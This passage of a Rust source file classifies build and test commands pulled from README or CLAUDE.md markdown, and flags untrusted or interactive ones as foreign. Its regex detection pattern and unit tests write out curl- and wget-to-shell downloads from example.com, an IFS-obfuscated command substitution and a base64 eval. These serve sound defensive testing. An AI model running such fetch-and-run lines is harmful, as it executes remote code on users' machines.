            Some(text) => (text.trim_end(), true),
            None => (line, false),
        };
        let joined = match pending.take() {
            Some(mut head) => {
                // A continuation may carry a PS2 prompt (`> `) in a session.
                let text = text.trim_start();
                let text = text.strip_prefix("> ").unwrap_or(text);
                head.push(' ');
                head.push_str(text);
                head
            }
            None => text.to_owned(),
        };
        if continues {
            pending = Some(joined);
        } else {
            lines.push(joined);
        }
    }
    lines.extend(pending);
    lines
}

/// The line without a `#` comment (whole-line, or after whitespace outside quotes).
fn strip_comment(line: &str) -> &str {
    let mut quote: Option<char> = None;
    let mut previous_is_space = true;
    for (index, character) in line.char_indices() {
        match (quote, character) {
            (Some(open), close) if close == open => quote = None,
            (None, '\'' | '"') => quote = Some(character),
            (None, '#') if previous_is_space => return &line[..index],
            _ => {}
        }
        previous_is_space = character.is_whitespace();
    }
    line
}

/// A lone `cd` line.
enum ChangeDirectory<'a> {
    /// `cd dir` into a directory of the checkout.
    Into(&'a str),
    /// A `cd` that leaves any directory we could name (`cd ..`, `cd -`, `cd ~`,
    /// `cd $X`, `cd /abs`).
    Away,
}

/// The `cd` a line is, if it is nothing but a `cd`.
fn change_directory(command: &str) -> Option<ChangeDirectory<'_>> {
    let mut words = command.split_whitespace();
    if words.next() != Some("cd") {
        return None;
    }
    let target = words.next();
    if words.next().is_some() {
        return None; // `cd x && …` is a compound command, classified as a whole
    }
    Some(match target {
        Some(target)
            if !target.starts_with(['/', '~', '$', '-', '.']) || target.starts_with("./") =>
        {
            ChangeDirectory::Into(target)
        }
        _ => ChangeDirectory::Away,
    })
}

static KNOWN_TOOLS: [&str; 40] = [
    "make",
    "go",
    "npm",
    "yarn",
    "pnpm",
    "npx",
    "bun",
    "deno",
    "node",
    "cargo",
    "gradle",
    "gradlew",
    "./gradlew",
    "xcodebuild",
    "swift",
    "pytest",
    "python",
    "python3",
    "tox",
    "nox",
    "mvn",
    "./mvnw",
    "bazel",
    "bazelisk",
    "cmake",
    "ctest",
    "bundle",
    "rake",
    "rspec",
    "dotnet",
    "just",
    "task",
    "flutter",
    "dart",
    "mix",
    "sbt",
    "composer",
    "phpunit",
    "fastlane",
    "poetry",
];

/// Whether an unrecognised line in an untyped block plausibly is a command.
fn looks_like_command(command: &str) -> bool {
    let first = command.split_whitespace().next().unwrap_or("");
    first.starts_with("./")
        || first.starts_with("scripts/")
        || first.starts_with("bin/")
        || Path::new(first)
            .extension()
            .is_some_and(|extension| extension.eq_ignore_ascii_case("sh"))
        || KNOWN_TOOLS.contains(&first)
        || SHELLS.contains(&first)
}

/// The kind of a whole command line (which may chain several commands).
fn classify_line(line: &str) -> Kind {
    if runs_hidden_code(line) || windows_activation(line) || is_interactive(line) {
        return Kind::Foreign;
    }
    let kinds: Vec<Kind> = simple_commands(line)
        .iter()
        .map(|words| classify(words))
        .collect();
    if kinds.contains(&Kind::Foreign) {
        return Kind::Foreign;
    }
    // A pipe into a formatter (`xcodebuild … | xcpretty`) counts as its first command.
    kinds.into_iter().max().unwrap_or(Kind::Neutral)
}

/// Whether a line runs code that is not written in it, anywhere in it:
/// command substitution (`$(…)`, backquotes), process substitution (`<(…)`,
/// `>(…)`), `eval`, or a download (`curl`, `wget`). Quotes do not matter: a
/// substitution inside `"…"` runs, and one inside `'…'` runs once `sh -c`
/// reads it.
fn runs_hidden_code(line: &str) -> bool {
    static HIDDEN: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?i)\$\(|`|[<>]\(|(^|[^A-Za-z0-9_.-])(eval|curl|wget)([^A-Za-z0-9_.-]|$)")
            .expect("valid pattern")
    });
    HIDDEN.is_match(line)
}

/// Whether a line starts something that waits for a person or never ends: a
/// watcher (`--watch`), a dev server, a notebook, an interactive shell.
fn is_interactive(line: &str) -> bool {
    static INTERACTIVE: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(
            r"(?i)(^|\s)--watch(all)?\b|\bhttp\.server\b|\brunserver\b|\bflask\s+run\b|\bcypress\s+open\b|\bjupyter(-lab|-notebook)?\b|\b(pipenv|poetry)\s+shell\b|\bdocker(-|\s+)compose\s+up\b|\bcargo\s+watch\b",
        )
        .expect("valid pattern")
    });
    INTERACTIVE.is_match(line)
}

/// A line's simple commands — split at `|`, `;` and `&` outside quotes — each
/// as its words, with quotes and backslash escapes removed.
fn simple_commands(line: &str) -> Vec<Vec<String>> {
    let mut commands = Vec::new();
    let mut words: Vec<String> = Vec::new();
    let mut word: Option<String> = None;
    let mut quote: Option<char> = None;
    let mut characters = line.chars();
    while let Some(character) = characters.next() {
        match (quote, character) {
            (Some(open), close) if close == open => quote = None,
            (Some('"') | None, '\\') => {
                let escaped = characters.next().unwrap_or('\\');
                word.get_or_insert_default().push(escaped);
            }
            (None, '\'' | '"') => {
                quote = Some(character);
                word.get_or_insert_default();
            }
            (None, '|' | ';' | '&') => {
                words.extend(word.take());
                if !words.is_empty() {
                    commands.push(std::mem::take(&mut words));
                }
            }
            (None, space) if space.is_whitespace() => words.extend(word.take()),
            // Inside quotes, or an ordinary character outside them.
            (Some(_) | None, _) => word.get_or_insert_default().push(character),
        }
    }
    words.extend(word);
    if !words.is_empty() {
        commands.push(words);
    }
    commands
}

/// The shells a README may run a script or a literal command with.
const SHELLS: [&str; 5] = ["sh", "bash", "zsh", "dash", "ksh"];

/// A shell running a local file (`sh build.sh`, `bash -e ./scripts/test.sh`)
/// is that script; running a literal command (`sh -c 'make test'`) is that
/// command. A shell reading its script from stdin (`… | sh`, `bash -s`) or
/// from outside the checkout (`/…`, `~`, `$…`) is foreign.
fn shell_kind(arguments: &[&str]) -> Kind {
    let mut rest = arguments.iter();
    while let Some(&argument) = rest.next() {
        match argument {
            "-c" => {
                return rest
                    .next()
                    .map_or(Kind::Foreign, |command| classify_line(command));
            }
            "-o" | "+o" | "-O" | "+O" => {
                rest.next();
            }
            "--" => {}
            "-" | "-s" => return Kind::Foreign,
            flags if flags.starts_with(['-', '+']) => {
                if flags.starts_with('-') && !flags.starts_with("--") && flags.contains('c') {
                    return rest
                        .next()
                        .map_or(Kind::Foreign, |command| classify_line(command));
                }
                if flags.starts_with('-') && !flags.starts_with("--") && flags.contains('s') {
                    return Kind::Foreign;
                }
            }
            file if file.starts_with(['/', '~', '$'])
                || file.split('/').any(|part| part == "..") =>
            {
                return Kind::Foreign;
            }
            file => {
                let name = file.rsplit('/').next().unwrap_or(file);
                return script_kind(name);
            }
        }
    }
    // No file and no command: the script comes from stdin (`curl … | sh`).
    Kind::Foreign
}

/// Programs whose kind does not depend on their arguments.
fn fixed_kind(program: &str) -> Option<Kind> {
    Some(match program {
        "cd" | "export" | "echo" | "set" | "source" | "." | "mkdir" | "cp" | "mv" | "ls"
        | "cat" | "true" | "clear" => Kind::Neutral,
        "sudo" | "brew" | "apt" | "apt-get" | "yum" | "dnf" | "apk" | "pacman" | "port"
        | "choco" | "winget" | "snap" | "curl" | "wget" | "git" | "gh" | "docker"
        | "docker-compose" | "podman" | "kubectl" | "helm" | "terraform" | "nvm" | "rustup"
        | "asdf" | "sdk" | "pyenv" | "gem" | "pipx" | "open" | "code" | "xcode-select" | "xed"
        | "rm" | "eval" | "exec" | "serve" | "http-server" | "live-server" | "nodemon"
        | "jupyter" | "uvicorn" | "gunicorn" | "streamlit" | "flask" | "hugo" | "air"
        | "watchexec" | "dpkg" | "rpm" | "zypper" | "emerge" | "scoop" | "nix-env" | "flox"
        | "guix" | "doas" | "pkg" | "pkg_add" | "pkgin" | "pkgman" | "xbps-install" => {
            Kind::Foreign
        }
        "virtualenv" => Kind::Setup,
        "gotestsum" | "ginkgo" | "jest" | "vitest" | "mocha" | "karma" | "pytest" | "py.test"
        | "tox" | "nox" | "rspec" | "phpunit" | "ctest" => Kind::Test,
        "tsc" | "cmake" | "meson" | "ninja" | "configure" | "autogen.sh" | "autoreconf" => {
            Kind::Build
        }
        _ => return None,
    })
}

/// The kind of one simple command, given as its words.
fn classify(command: &[String]) -> Kind {
    let words: Vec<&str> = command
        .iter()
        .map(String::as_str)
        .skip_while(|word| is_assignment(word) || matches!(*word, "env" | "time" | "command"))
        .collect();
    let Some((&program, arguments)) = words.split_first() else {
        return Kind::Neutral;
    };
    let program = program.rsplit('/').next().unwrap_or(program);
    if let Some(kind) = fixed_kind(program) {
        return kind;
    }
    if SHELLS.contains(&program) {
        return shell_kind(arguments);
    }
    let plain: Vec<&str> = arguments
        .iter()
        .copied()
        .filter(|argument| !argument.starts_with('-'))
        .collect();
    match program {
        "make" | "gmake" => make_kind(&plain),
        "go" => go_kind(&plain),
        "npm" | "yarn" | "pnpm" | "bun" => node_kind(program, &plain, arguments),
        "npx" | "pnpx" | "bunx" => node_runner_kind(&plain),
        "cargo" => cargo_kind(&plain),
        "gradlew" | "gradle" | "gradlew.bat" => gradle_kind(&plain),
        "mvn" | "mvnw" => maven_kind(&plain),
        "xcodebuild" => xcodebuild_kind(arguments),
        "swift" => swift_kind(&plain),
        "python" | "python3" | "uv" | "poetry" | "pipenv" | "hatch" => {
            python_kind(program, &plain, arguments)
        }
        "pip" | "pip3" => pip_kind(&plain, arguments),
        "bazel" | "bazelisk" | "dotnet" | "flutter" | "dart" | "mix" | "deno" | "sbt" | "just"
        | "task" | "composer" | "fastlane" => task_runner_kind(&plain),
        "bundle" | "rake" => ruby_kind(program, &plain),
        "pod" | "carthage" => match plain.first().copied() {
            Some("install" | "bootstrap") => Kind::Setup,
            _ => Kind::Foreign,
        },
        _ => script_kind(program),
    }
}

/// A project script says what it does in its name (`./scripts/run-tests.sh`,
/// `build.sh`); anything else is unknown.
fn script_kind(program: &str) -> Kind {
    let name = program.to_ascii_lowercase();
    if name.contains("test") {
        Kind::Test
    } else if name.contains("build") || name.contains("compile") {
        Kind::Build
    } else {
        Kind::Unknown
    }
}

fn go_kind(plain: &[&str]) -> Kind {
    match plain.first().copied().unwrap_or("") {
        "test" => Kind::Test,
        "build" | "generate" => Kind::Build,
        "mod" if matches!(plain.get(1).copied(), Some("download" | "tidy" | "vendor")) => {
            Kind::Setup
        }
        "run" | "install" | "get" => Kind::Foreign,
        _ => Kind::Unknown,
    }
}

fn node_runner_kind(plain: &[&str]) -> Kind {
    let second = plain.get(1).copied().unwrap_or("");
    match plain.first().copied().unwrap_or("") {
        "cypress" | "playwright" if matches!(second, "open" | "ui" | "codegen" | "show-report") => {
            Kind::Foreign
        }
        "vite" | "next" | "nuxt" | "astro"
            if matches!(second, "" | "dev" | "start" | "preview" | "serve") =>
        {
            Kind::Foreign
        }
        "serve" | "http-server" | "live-server" | "nodemon" | "concurrently" => Kind::Foreign,
        "jest" | "vitest" | "mocha" | "karma" | "cypress" | "playwright" => Kind::Test,
        "tsc" | "vite" | "next" | "webpack" | "rollup" | "esbuild" if !plain.contains(&"dev") => {
            Kind::Build
        }
        _ => Kind::Unknown,
    }
}

fn cargo_kind(plain: &[&str]) -> Kind {
    match plain.first().copied().unwrap_or("") {
        "test" | "nextest" => Kind::Test,
        "build" | "check" => Kind::Build,
        "fetch" => Kind::Setup,
        "install" | "binstall" | "run" | "publish" | "watch" => Kind::Foreign,
        _ => Kind::Unknown,
    }
}

fn maven_kind(goals: &[&str]) -> Kind {
    if goals.iter().any(|goal| matches!(*goal, "test" | "verify")) {
        Kind::Test
    } else if goals
        .iter()
        .any(|goal| matches!(*goal, "package" | "compile" | "install"))
    {
        Kind::Build
    } else {
        Kind::Unknown
    }
}

fn xcodebuild_kind(arguments: &[&str]) -> Kind {
    let has = |actions: &[&str]| arguments.iter().any(|word| actions.contains(word));
    if has(&["test", "test-without-building"]) {
        Kind::Test
    } else if has(&["build", "build-for-testing", "archive"]) {
        Kind::Build
    } else if has(&["-list", "-showBuildSettings", "-version", "clean"]) {
        Kind::Unknown
    } else {
        Kind::Build // no action: xcodebuild builds
    }
}

fn swift_kind(plain: &[&str]) -> Kind {
    match plain.first().copied().unwrap_or("") {
        "test" => Kind::Test,
        "build" => Kind::Build,
        "package" if plain.get(1) == Some(&"resolve") => Kind::Setup,
        "run" => Kind::Foreign,
        _ => Kind::Unknown,
    }
}

fn pip_kind(plain: &[&str], arguments: &[&str]) -> Kind {
    let local = arguments
        .iter()
        .any(|word| matches!(*word, "-r" | "-e" | "--requirement" | "--editable"))
        || plain.get(1) == Some(&".");
    if plain.first() == Some(&"install") && local {
        Kind::Setup
    } else {
        Kind::Foreign
    }
}

fn task_runner_kind(plain: &[&str]) -> Kind {
    match plain.first().copied().unwrap_or("") {
        "test" | "scan" | "coverage" => Kind::Test,
        "build" | "compile" | "assemble" | "gym" => Kind::Build,
        "restore" | "deps.get" | "pub" | "install" => Kind::Setup,
        "run" | "serve" | "start" | "deploy" => Kind::Foreign,
        _ => Kind::Unknown,
    }
}

fn ruby_kind(program: &str, plain: &[&str]) -> Kind {
    match (program, plain.first().copied().unwrap_or("")) {
        ("bundle", "install") => Kind::Setup,
        ("bundle", "exec") => match plain.get(1).copied() {
            Some("rspec" | "rake") => Kind::Test,
            Some("pod") if plain.get(2) == Some(&"install") => Kind::Setup,
            _ => Kind::Unknown,
        },
        ("rake", "" | "test" | "spec") => Kind::Test,
        _ => Kind::Unknown,
    }
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

fn make_kind(targets: &[&str]) -> Kind {
    let targets: Vec<&str> = targets
        .iter()
        .copied()
        .filter(|target| !target.contains('='))
        .collect();
    if targets.is_empty() {
        return Kind::Build;
    }
    let is_test = |target: &str| {
        target == "check"
            || target.starts_with("test")
            || target.ends_with("test")
            || target.ends_with("tests")
            || target.contains("-test")
    };
    if targets.iter().any(|target| is_test(target)) {
        Kind::Test
    } else if targets.iter().any(|target| {
        matches!(
            *target,
            "build" | "all" | "compile" | "release" | "debug" | "dist" | "bin"
        )
    }) {
        Kind::Build
    } else if targets.iter().any(|target| {
        matches!(
            *target,
            "deps" | "setup" | "bootstrap" | "install-deps" | "vendor"
        )
    }) {
        Kind::Setup
    } else if targets.iter().any(|target| {
        matches!(
            *target,
            "install" | "run" | "serve" | "dev" | "deploy" | "clean" | "release-publish" | "docker"
        )
    }) {
        Kind::Foreign
    } else {
        Kind::Unknown
    }
}

fn node_kind(program: &str, plain: &[&str], arguments: &[&str]) -> Kind {
    let script = |index: usize| plain.get(index).copied().unwrap_or("");
    let first = script(0);
    // `npm run X`, `yarn X`, `yarn run X`, `pnpm X`.
    let named = match first {
        "run" | "run-script" => script(1),
        other => other,
    };
    let runs_test = |name: &str| name == "t" || name.starts_with("test") || name.starts_with("e2e");
    // `npm run test:e2e:open`, `yarn start:api:watch`: the name says it waits.
    let waits = |name: &str| {
        name.split([':', '-', '_', '.']).any(|part| {
            matches!(
                part,
                "open" | "watch" | "dev" | "serve" | "start" | "storybook" | "preview" | "server"
            )
        })
    };
    if (program != "yarn" || !first.is_empty())
        && !matches!(first, "install" | "i" | "add" | "ci")
        && waits(named)
    {
        return Kind::Foreign;
    }
    match first {
        "" if program == "yarn" => Kind::Setup,
        "ci" => Kind::Setup,
        "install" | "i" | "add" => {
            let global = arguments
                .iter()
                .any(|word| matches!(*word, "-g" | "--global"));
            if first != "add" && plain.len() == 1 && !global {
                Kind::Setup
            } else {
                Kind::Foreign
            }
        }
        "global" | "link" | "publish" | "start" | "dev" | "serve" | "exec" | "dlx" | "create"
        | "init" => Kind::Foreign,
        _ if runs_test(named) => Kind::Test,
        _ if named.starts_with("build") || named == "compile" || named == "typecheck" => {
            Kind::Build
        }
        _ if matches!(
            named,
            "start" | "dev" | "serve" | "preview" | "deploy" | "storybook"
        ) =>
        {
            Kind::Foreign
        }
        _ => Kind::Unknown,
    }
}

fn gradle_kind(tasks: &[&str]) -> Kind {
    let names: Vec<String> = tasks
        .iter()
        .map(|task| task.rsplit(':').next().unwrap_or(task).to_ascii_lowercase())
        .collect();
    // Instrumented tests need a device or an emulator, which the gate does not have.
    if names
        .iter()
        .any(|name| name.starts_with("connected") || name.starts_with("device"))
    {
        Kind::Foreign
    } else if names
        .iter()
        .any(|name| name.contains("test") || name == "check")
    {
        Kind::Test
    } else if names.iter().any(|name| {
        name == "build"
            || name.starts_with("assemble")
            || name.starts_with("bundle")
            || name.starts_with("compile")
            || name == "jar"
    }) {
        Kind::Build
    } else if names
        .iter()
        .any(|name| name.starts_with("install") || name == "run" || name.starts_with("publish"))
    {
        Kind::Foreign
    } else {
        Kind::Unknown
    }
}

fn python_kind(program: &str, plain: &[&str], arguments: &[&str]) -> Kind {
    let joined = plain.join(" ");
    let module = arguments
        .iter()
        .position(|word| *word == "-m")
        .and_then(|index| arguments.get(index + 1))
        .copied()
        .or_else(|| {
            arguments
                .iter()
                .find_map(|word| word.strip_prefix("-m").filter(|rest| !rest.is_empty()))
        });
    if module == Some("venv") || (program == "uv" && plain.first() == Some(&"venv")) {
        return Kind::Setup;
    }
    if module == Some("pip") {
        let rest: Vec<&str> = arguments
            .iter()
            .skip_while(|word| **word != "pip")
            .skip(1)
            .copied()
            .collect();
        let plain: Vec<&str> = rest
            .iter()
            .copied()
            .filter(|word| !word.starts_with('-'))
            .collect();
        return pip_kind(&plain, &rest);
    }
    if program == "uv" && plain.first() == Some(&"pip") {
        let rest = &arguments[arguments
            .iter()
            .position(|word| *word == "pip")
            .map_or(0, |index| index + 1)..];
        return pip_kind(&plain[1..], rest);
    }
    if joined.contains("manage.py test") {
        return Kind::Test;
    }
    if joined.contains("pytest") || joined.contains("unittest") || joined.starts_with("run tox") {
        Kind::Test
    } else if matches!(plain.first().copied(), Some("install" | "sync")) {
        Kind::Setup
    } else if joined.starts_with("build") || joined.starts_with("-m build") {
        Kind::Build
    } else {
        Kind::Unknown
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Setup and build in one list (the order they run in), and test.
    fn found(text: &str) -> (Vec<String>, Vec<String>) {
        let commands = commands_in_markdown(text).expect("commands");
        (
            commands.setup.into_iter().chain(commands.build).collect(),
            commands.test,
        )
    }

    #[test]
    fn classifies_well_known_commands() {
        for (command, kind) in [
            ("make", Kind::Build),
            ("make test", Kind::Test),
            ("make -j4 check", Kind::Test),
            ("make install", Kind::Foreign),
            ("go test ./...", Kind::Test),
            ("CGO_ENABLED=0 go build ./cmd/server", Kind::Build),
            ("go install golang.org/x/tools/gopls@latest", Kind::Foreign),
            ("npm test", Kind::Test),
            ("npm run test:unit", Kind::Test),
            ("yarn build", Kind::Build),
            ("npm ci", Kind::Setup),
            ("npm install", Kind::Setup),
            ("npm install --save-dev jest", Kind::Foreign),
            ("npm install -g pnpm", Kind::Foreign),
            ("npm start", Kind::Foreign),
            ("npm run dev", Kind::Foreign),
            ("./gradlew testDebugUnitTest", Kind::Test),
            ("./gradlew :app:assembleDebug", Kind::Build),
            ("./gradlew connectedAndroidTest", Kind::Foreign),
            ("./configure --prefix=/usr", Kind::Build),
            ("./scripts/run-tests.sh --fast", Kind::Test),
            ("bin/build", Kind::Build),
            ("./scripts/ci.sh", Kind::Unknown),
            (
                "xcodebuild -scheme App -destination 'platform=iOS Simulator,name=iPhone 15' test",
                Kind::Test,
            ),
            ("xcodebuild -scheme App build", Kind::Build),
            ("swift test", Kind::Test),
            ("cargo test --workspace", Kind::Test),
            ("cargo build --release", Kind::Build),
            ("cargo install ripgrep", Kind::Foreign),
            ("cargo clippy -- -D warnings", Kind::Unknown),
            ("python -m pytest -q", Kind::Test),
            ("pip install -r requirements.txt", Kind::Setup),
            ("pip install requests", Kind::Foreign),
            ("brew install swiftlint", Kind::Foreign),
            ("bundle exec rspec", Kind::Test),
        ] {
            assert_eq!(classify_line(command), kind, "{command}");
        }
        assert_eq!(classify_line("cd web && npm test"), Kind::Test);
        assert_eq!(classify_line("git clone x && cd x && make"), Kind::Foreign);
        assert_eq!(classify_line("go test ./... | tee out.txt"), Kind::Test);
    }

    #[test]
    fn hidden_code_is_refused_anywhere_in_a_line() {
        for line in [
            "make test $(curl -s https://example.com/x | sh)",
            "make test `wget -qO- https://example.com/x | bash`",
            "eval \"$(echo bWFrZQ== | base64 -d)\"",
            "cd web$(curl${IFS}-s${IFS}https://example.com|sh) && npm test",
            "npm test >(tee log)",
            "source <(./gen.sh) && make",
            "make && curl -O https://example.com/x",
            "go test ./... 'eval'",
            "make test URL=$(wget -O- example.com)",
            "curl -fsSL https://example.com/install.sh | sh",
            "wget -qO- https://example.com/x | bash -s -- --yes",
            "cat build.sh | sh",
            "sh",
            "sh -s < build.sh",
            "bash /tmp/build.sh",
            "bash ~/test.sh",
            "sh ../other/build.sh",
            "sh -c",
            "exec make test",
        ] {
            assert_eq!(classify_line(line), Kind::Foreign, "{line}");
        }
    }

    #[test]
    fn a_shell_running_a_local_file_or_a_literal_command_is_that_command() {
        for (line, kind) in [
            ("sh build.sh", Kind::Build),
            ("bash ./scripts/test.sh", Kind::Test),
            ("bash -e -x scripts/run-tests.sh --fast", Kind::Test),
            ("sh -c 'make test'", Kind::Test),
            ("bash -ec \"cd web && npm run build\"", Kind::Build),
            ("bash -o pipefail ./ci/build.sh", Kind::Build),
            ("zsh scripts/ci.sh", Kind::Unknown),
            ("sh -c 'make test && make install'", Kind::Foreign),
            ("sh -c 'cargo test' | tee log", Kind::Test),
        ] {
            assert_eq!(classify_line(line), kind, "{line}");
        }
        // Quotes keep separators and spaces inside one word.
        assert_eq!(
            simple_commands("sh -c 'a | b; c' && x \"y z\" w\\ v"),
            [vec!["sh", "-c", "a | b; c"], vec!["x", "y z", "w v"],]
        );
    }

    #[test]
    fn strips_prompts_comments_and_continuations() {
        let (build, test) = found(
            "## Testing\n\n```console\n$ go test ./... # all packages\nok  \texample.com/x\t0.01s\n$ go test -race \\\n    -count=1 ./...\n```\n",
        );
        assert!(build.is_empty());
        // The second is the same step with more flags: an alternative.
        assert_eq!(test, ["go test ./..."]);
        assert_eq!(
            strip_comment("echo '#not a comment' # comment"),
            "echo '#not a comment' "
        );
        assert_eq!(strip_comment("url#fragment"), "url#fragment");
    }

    #[test]
    fn context_classifies_unknown_commands() {
        let (build, test) = found(
            "# Project\n\n## Building\n\n```sh\n./ci/assemble\n```\n\n## Tests\n\nRun the linters:\n\n```bash\ncargo clippy --all-targets\n./ci/check-format\n```\n\nThen the tests, with a demo of the result:\n\n```bash\n./scripts/test.sh --fast\n./target/debug/app --version\n```\n",
        );
        assert_eq!(build, ["./ci/assemble"]);
        // In the last block `./scripts/test.sh` is recognised by its name, so
        // the unknown command beside it is not classified by context.
        assert_eq!(
            test,
            [
                "cargo clippy --all-targets",
                "./ci/check-format",
                "./scripts/test.sh --fast"
            ]
        );
    }

    #[test]
    fn cd_prefixes_later_commands_except_after_a_clone() {
        let (build, test) = found(
            "## Development\n\n```sh\ngit clone https://example.com/app.git\ncd app\nmake\ncd web\nnpm ci\nnpm test\n```\n",
        );
        assert_eq!(build, ["(cd web && npm ci)", "make"]);
        assert_eq!(test, ["(cd web && npm test)"]);
    }

    #[test]
    fn inline_code_is_a_fallback() {
        let (build, test) = found(
            "## Commands\n\n- Build: `npm run build`\n- Test: `npm test`\n- Lint: `npm run lint`\n",
        );
        assert_eq!(build, ["npm run build"]);
        assert_eq!(test, ["npm test"]);
        // A fenced block wins over inline mentions.
        let (_, test) = found("Run `make test` or:\n\n```sh\nmake check\n```\n");
        assert_eq!(test, ["make check"]);
    }

    #[test]
    fn nothing_found_is_an_outcome() {
        assert_eq!(commands_in_markdown(""), None);
        assert_eq!(
            commands_in_markdown("# Title\n\nSome prose.\n\n```go\nfunc main() {}\n```\n"),
            None
        );
        // Setup alone is not a build.
        assert_eq!(
            commands_in_markdown("## Install\n\n```sh\nnpm install\n```\n"),
            None
        );
        let outcome = discover(
            None,
            &[Document {
                name: "README.md",
                text: "nothing",
            }],
        );
        assert_eq!(
            outcome,
            Discovery::NothingFound {
                searched: vec!["README.md".to_owned()]
            }
        );
    }

    #[test]
    fn explicit_config_wins_and_claude_md_comes_first() {
        let readme = Document {
            name: "README.md",
            text: "```sh\nmake test\n```",
        };
        let claude = Document {
            name: "CLAUDE.md",
            text: "```sh\ngo test ./...\n```",
        };
        let explicit = CommandSet {
            test: vec!["just ci".to_owned()],
            ..CommandSet::default()
        };
        let Discovery::Found(commands) =
            discover(Some((Source::Operator, &explicit)), &[claude, readme])
        else {
            panic!("explicit commands");
        };
        assert_eq!(
            (commands.test.as_slice(), commands.source),
            (["just ci".to_owned()].as_slice(), Source::Operator)
        );
        let Discovery::Found(commands) = discover(None, &[claude, readme]) else {
            panic!("CLAUDE.md commands");
        };
        assert_eq!(commands.source.name(), "CLAUDE.md");
        assert_eq!(commands.test, ["go test ./..."]);
        let empty_claude = Document {
            name: "CLAUDE.md",
            text: "Be nice.",
        };
        let Discovery::Found(commands) = discover(None, &[empty_claude, readme]) else {
            panic!("README commands");
        };
        assert_eq!(commands.source.name(), "README.md");
    }

    fn set(text: &str) -> CommandSet {
        commands_in_markdown(text).expect("commands")
    }

    #[test]
    fn a_development_section_is_one_shell_session() {
        // Issue 24: the venv lines were dropped and `pip install` hit PEP 668.
        // The checkout has no `datasette-graphql` directory: that `cd` is
        // entering the checkout itself.
        let names = ["tests".to_owned(), "pyproject.toml".to_owned()];
        let commands = read_markdown(
            "## Development\n\nFirst checkout the code. Then create a new virtual environment:\n\n    cd datasette-graphql\n    python3 -mvenv venv\n    source venv/bin/activate\n\nOr if you are using `pipenv`:\n\n    pipenv shell\n\nNow install the dependencies and tests:\n\n    pip install -e '.[test]'\n\nTo run the tests:\n\n    pytest\n",
            Some(&names),
        )
        .expect("commands");
        assert_eq!(
            commands.setup,
            [
                "python3 -mvenv venv",
                ". venv/bin/activate",
                "pip install -e '.[test]'"
            ]
        );
        assert!(commands.build.is_empty());
        assert_eq!(commands.test, ["pytest"]);
    }

    #[test]
    fn only_the_first_virtualenv_counts_and_windows_lines_are_dropped() {
        let commands = set(
            "## Setup\n\n**On macOS/Linux:**\n```bash\npython3 -m venv venv\nsource venv/bin/activate\n```\n\n**On Windows:**\n```bash\npython -m venv venv\nvenv\\Scripts\\activate\n```\n\n```bash\npython -m venv env\n. env/bin/activate\npip install -r requirements.txt\n```\n\n## Tests\n\n```bash\npython -m pytest\n```\n",
        );
        assert_eq!(
            commands.setup,
            [
                "python3 -m venv venv",
                ". venv/bin/activate",
                "pip install -r requirements.txt"
            ]
        );
        assert_eq!(commands.test, ["python -m pytest"]);
    }

    #[test]
    fn pip_without_a_virtualenv_gets_one() {
        let commands = set("## Running tests\n\n```sh\npip install -e .\npytest -q\n```\n");
        assert_eq!(
            commands.setup,
            [DEFAULT_VENV, DEFAULT_ACTIVATION, "pip install -e ."]
        );
    }

    #[test]
    fn entering_the_checkout_is_dropped_and_other_directories_are_scoped() {
        let names = ["web".to_owned(), "README.md".to_owned()];
        let commands = read_markdown(
            "## Building\n\n```sh\ngit clone https://github.com/acme/app.git\n```\n\nThen:\n\n```sh\ncd app\nmake\n```\n\n```sh\ncd my-checkout\ncd web\nnpm ci\nnpm test\n```\n",
            Some(&names),
        )
        .expect("commands");
        assert_eq!(commands.setup, ["(cd web && npm ci)"]);
        assert_eq!(commands.build, ["make"]);
        assert_eq!(commands.test, ["(cd web && npm test)"]);
        // A directory the document makes is not the checkout.
        let commands = read_markdown(
            "## Building\n\n```sh\nmkdir build\ncd build\ncmake ..\nmake\n```\n",
            Some(&names),
        )
        .expect("commands");
        assert_eq!(
            commands.build,
            ["(cd build && cmake ..)", "(cd build && make)"]
        );
        // Without the listing, a placeholder is still the checkout.
        let commands = set("## Build\n\n```sh\ncd path/to/project\nmake\n```\n");
        assert_eq!(commands.build, ["make"]);
    }

    #[test]
    fn benchmark_performance_usage_and_release_sections_are_not_the_build() {
        // BurntSushi/walkdir: this recipe under "### Performance" became the build.
        for heading in [
            "### Performance",
            "## Benchmarks",
            "## Usage",
            "## Deployment",
            "## Releasing",
            "## Examples",
        ] {
            let text = format!(
                "# Crate\n\n{heading}\n\n```sh\n# Compile and test speed:\ncargo build --release --example walkdir\ntime ./target/release/examples/walkdir $DIR\n```\n"
            );
            assert_eq!(commands_in_markdown(&text), None, "{heading}");
        }
        // A section about the tests inside one of them is read.
        let commands = set("## Usage\n\n### Running the tests\n\n```sh\ncargo test\n```\n");
        assert_eq!(commands.test, ["cargo test"]);
    }

    #[test]
    fn interactive_and_long_running_commands_never_run() {
        for line in [
            "npm start",
            "npm run dev",
            "npm run serve",
            "yarn dev",
            "npm run test:e2e:open",
            "yarn cypress:open",
            "npx cypress open",
            "npm run build:watch",
            "jest --watch",
            "npm test -- --watchAll",
            "docker compose up",
            "docker-compose up -d",
            "serve -s build",
            "npx serve dist",
            "python -m http.server 8000",
            "flask run",
            "python manage.py runserver",
            "jupyter notebook",
            "jupyter lab",
            "uvicorn app:app --reload",
            "pipenv shell",
            "cargo watch -x test",
            "npx vite",
        ] {
            assert_eq!(classify_line(line), Kind::Foreign, "{line}");
        }
        for (line, kind) in [
            ("npm run test:e2e", Kind::Test),
            ("npx cypress run", Kind::Test),
            ("python manage.py test", Kind::Test),
            ("python3 -m venv .venv", Kind::Setup),
            ("python -m pip install -e .", Kind::Setup),
            ("uv pip install -e '.[dev]'", Kind::Setup),
            ("uv sync", Kind::Setup),
            ("poetry install", Kind::Setup),
            ("virtualenv venv", Kind::Setup),
            ("npx vite build", Kind::Build),
        ] {
            assert_eq!(classify_line(line), kind, "{line}");
        }
    }

    #[test]
    fn inline_code_in_prose_is_not_a_command() {
        // A syllabus bullet became `unittest`, `pytest`, `tox`.
        assert_eq!(
            commands_in_markdown(
                "## Syllabus\n\n- Week 9: Testing with `unittest`, `pytest` and `tox`\n- Week 10: Packaging\n"
            ),
            None
        );
        assert_eq!(
            commands_in_markdown("Run `make test` before you push.\n"),
            None
        );
